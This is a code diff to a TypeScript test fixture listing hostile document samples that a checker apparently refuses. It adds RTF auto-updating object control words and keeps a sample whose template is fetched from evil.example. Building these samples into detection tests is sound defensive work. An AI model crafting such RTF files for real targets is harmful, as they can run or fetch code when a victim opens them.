@@ -12,6 +12,7 @@ const FETCHES = 'fetches or sends something';
 const PACKED = 'can’t be unpacked, or takes too long to check';
 
 type Document = readonly [what: string, extension: string, content: Uint8Array];
+type Dangerous = readonly [...Document, has: string];
 
 /** The name of a document type in a refusal, by extension. */
 export const KINDS: Readonly<Record<string, string>> = {
@@ -23,7 +24,7 @@ export const KINDS: Readonly<Record<string, string>> = {
 };
 
 /** Documents that run or fetch something when they are opened, each with the reason for its refusal. */
-export const DANGEROUS_DOCUMENTS: readonly (readonly [...Document, has: string])[] = [
+export const DANGEROUS_DOCUMENTS: readonly Dangerous[] = [
   [
     'an OpenDocument file with a Basic library',
     'odt',
@@ -44,12 +45,14 @@ export const DANGEROUS_DOCUMENTS: readonly (readonly [...Document, has: string])
     RUNS,
   ],
   ...DANGEROUS_PDFS,
-  [
-    'an RTF file that updates an object',
-    'rtf',
-    rtf('{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}'),
-    RUNS,
-  ],
+  ...['objdata 0105', 'objupdate', 'objautlink', 'objlink', 'objocx', 'objhtml'].map(
+    (word): Dangerous => [
+      `an RTF file with an object (${word})`,
+      'rtf',
+      rtf(`{\\object{\\*\\${word}}}`),
+      RUNS,
+    ],
+  ),
   ['an RTF file with a remote template', 'rtf', rtf('{\\*\\template https://evil.example/a.dotm}'), FETCHES],
   [
     'an RTF file with a template on another machine',
